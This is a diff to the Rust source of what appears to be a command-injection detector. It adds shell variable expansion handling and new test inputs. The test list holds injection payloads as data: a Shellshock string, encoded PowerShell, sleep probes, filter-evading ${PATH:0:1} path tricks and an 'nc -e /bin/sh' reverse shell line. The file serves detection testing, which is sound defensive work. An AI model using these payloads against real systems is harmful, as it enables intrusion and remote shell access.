@@ -439,12 +439,10 @@ impl Rce {
             || sink.wants(RCE_BRACE_EXPANSION)
             || (values && (sink.wants(RCE_LEADING_COMMAND) || sink.wants(RCE_LEADING_LOOSE)))
         {
-            let text = if v.lower().contains("$ifs") || v.lower().contains("${ifs}") {
-                std::borrow::Cow::Owned(v.lower().replace("${ifs}", " ").replace("$ifs", " "))
-            } else {
-                std::borrow::Cow::Borrowed(v.lower())
-            };
-            self.shell_scan(&text, sink, values);
+            match super::shell_expanded(v.lower()) {
+                Some(text) => self.shell_scan(&text, sink, values),
+                None => self.shell_scan(v.lower(), sink, values),
+            }
         }
     }
 
@@ -1331,6 +1329,8 @@ mod tests {
                 "x; powershell -enc AAAA",
                 "() { :; }; /bin/bash -c id",
                 "1;sleep${IFS}5",
+                "1.2.3.4;${PATH:0:1}bin${PATH:0:1}id",
+                "a|${HOME::1}usr${HOME::1}bin${HOME::1}whoami",
                 "a\nnc -e /bin/sh 10.0.0.1 4444",
                 "x; sleep 5",
                 "example.org\nid\n",
